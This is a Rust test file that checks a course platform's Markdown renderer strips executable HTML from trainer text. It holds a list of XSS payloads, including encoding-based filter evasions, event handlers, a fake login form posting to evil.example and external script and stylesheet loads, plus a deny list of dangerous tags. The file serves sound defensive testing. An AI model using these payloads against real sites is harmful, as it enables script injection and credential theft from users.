//! Trainer text must not be able to run code in a learner's browser, however the
//! attempt is spelt. Every payload goes through the renderer, directly and inside
//! every place of a module where text is rendered.

use tiltas_course::{Block, ModuleContext, ScenarioNode, check_module_text, render_markdown};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example\"><input name=password><button>Log in</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">fake login</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<table><tr><td style=\"background:url(https://evil.example/track)\">x</td></tr></table>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" onmouseover=\"alert(1)\">x</a>",
    "<!-- <script>alert(1)</script> -->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<div id=\"location\">x</div><div class=\"admin-panel\">x</div>",
];

/// Markers of executable or page-altering HTML that must never survive.
const FORBIDDEN: &[&str] = &[
    "<script", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<svg", "<math", "<style", "<link",
    "<meta", "<base", "<video", "<audio", "<source", "<marquee", "<template", "<noscript", "javascript:", "vbscript:",
    "data:", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "onstart", "formaction", "srcdoc",
    "evil.example/x", "position:fixed", "url(", "class=\"admin-panel\"", "id=\"location\"",
];

/// Checks the markup only: in the output every literal `<` starts a real tag (text
/// is escaped to `&lt;`), so a payload that survives as visible, escaped text is
/// harmless and must not count as a failure.
fn assert_clean(html: &str, payload: &str) {
    let lower = html.to_ascii_lowercase();
    let tags: Vec<&str> = lower.split('<').skip(1).map(|t| t.split('>').next().unwrap_or(t)).collect();
    for tag in &tags {
        let tag = format!("<{tag}");
        for f in FORBIDDEN {
            assert!(!tag.contains(f), "`{f}` survived in tag {tag:?} of {html:?} from {payload:?}");
        }
        // The only style attribute allowed is pulldown-cmark's column alignment.
        for (i, _) in tag.match_indices("style=") {
            let rest = &tag[i..];
            assert!(
                rest.starts_with("style=\"text-align: left\"")
                    || rest.starts_with("style=\"text-align: center\"")
                    || rest.starts_with("style=\"text-align: right\""),
                "style survived in {html:?} from {payload:?}"
            );
        }
    }
}

#[test]
fn the_check_itself_catches_unsanitised_html() {
    for raw in [
        "<img src=x onerror=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<p style=\"color:red\">x</p>",
        "<iframe></iframe>",
    ] {
        assert!(std::panic::catch_unwind(|| assert_clean(raw, raw)).is_err(), "{raw} not caught");
    }
    assert_clean("<p>&lt;img src=x onerror=alert(1)&gt;</p>", "escaped text is fine");
}

#[test]
fn renderer_removes_every_payload() {
    for p in PAYLOADS {
        assert_clean(&render_markdown(p), p);
        assert_clean(&render_markdown(&format!("Some text {p} more text")), p);
        assert_clean(&render_markdown(&format!("- item\n\n  {p}\n")), p);
    }
}

#[test]
fn harmless_formatting_survives() {
    let html = render_markdown(
        "**b** *i* `c`\n\n> q\n\n1. one\n\n<abbr title=\"Non-governmental organisation\">NGO</abbr> <kbd>Ctrl</kbd>\n\n[ok](https://ok.example/a?b=c) ![alt](images/a.png)",
    );
    for expected in [
        "<strong>b</strong>",
        "<em>i</em>",
        "<code>c</code>",
        "<blockquote>",
        "<ol>",
        "<abbr title=\"Non-governmental organisation\">NGO</abbr>",
        "<kbd>Ctrl</kbd>",
        "href=\"https://ok.example/a?b=c\"",
        "rel=\"noopener noreferrer\"",
        "<img src=\"images/a.png\" alt=\"alt\">",
    ] {
        assert!(html.contains(expected), "{expected} missing from {html}");
    }
}

#[test]
fn every_rendered_place_in_a_module_is_sanitised() {
    for p in PAYLOADS {
        // Payloads are kept on one line so they stay inside the part they are in.
        let p1 = p.replace('\n', " ");
        let text = format!(
            "+++\nid = \"m\"\ntitle = \"M\"\norder = 1\nestimated_minutes = 5\nobjectives = [\"o\"]\n+++\n\n\
             Intro {p1}\n\n::: question q\nkind: single\nPrompt {p1}\n\n- [x] Option {p1}\n  feedback: Feedback {p1}\n- [ ] Other\n\n\
             explanation: Explanation {p1}\n:::\n\n::: scenario s\ntitle: T\nstart: a\n\n@step a\nNarrative {p1}\n\n\
             - Choice {p1} -> e\n  feedback: Consequence {p1}\n\n@ending e\noutcome: good-practice\npoints: 1\nEnding {p1}\n:::\n\n## Sources\n\n- S {p1}\n"
        );
        let check = check_module_text("01-m.en.md", &text, &ModuleContext::default());
        let Some(module) = check.module else {
            // Some payloads (e.g. a `->` inside one) break the block syntax; then
            // nothing is rendered at all, which is also safe.
            continue;
        };
        let mut htmls: Vec<String> = Vec::new();
        for b in &module.blocks {
            match b {
                Block::Markdown(m) => htmls.push(m.html.clone()),
                Block::Question(q) => {
                    htmls.push(q.prompt.html.clone());
                    for o in &q.options {
                        htmls.push(o.text.html.clone());
                        htmls.extend(o.feedback.iter().map(|f| f.html.clone()));
                    }
                    htmls.extend(q.explanation.iter().map(|e| e.html.clone()));
                }
                Block::Scenario(s) => {
                    for n in &s.nodes {
                        match n {
                            ScenarioNode::Step(st) => {
                                htmls.push(st.narrative.html.clone());
                                for c in &st.choices {
                                    htmls.push(c.text.html.clone());
                                    htmls.push(c.feedback.html.clone());
                                }
                            }
                            ScenarioNode::Ending(e) => htmls.push(e.narrative.html.clone()),
                            ScenarioNode::Branch(_) => {}
                        }
                    }
                }
            }
        }
        assert!(htmls.len() >= 10);
        for h in htmls {
            assert_clean(&h, p);
        }
    }
}

#[test]
fn pathologically_nested_text_is_refused_by_the_check_and_never_parsed_as_html() {
    let deep = ">".repeat(2_000) + " x";
    let text = format!(
        "+++\nid = \"m\"\ntitle = \"M\"\norder = 1\nestimated_minutes = 5\nobjectives = [\"o\"]\n+++\n\n{deep}\n\n## Sources\n\n- S\n"
    );
    let check = check_module_text("01-m.en.md", &text, &ModuleContext::default());
    assert!(check.module.is_none());
    assert!(check.diagnostics.iter().any(|d| d.code.as_str() == "too-deep" && d.is_error()), "{:?}", check.diagnostics);
    // Rendered anyway (a preview), it is shown as text.
    assert!(!render_markdown(&deep).contains("<blockquote>"));
}
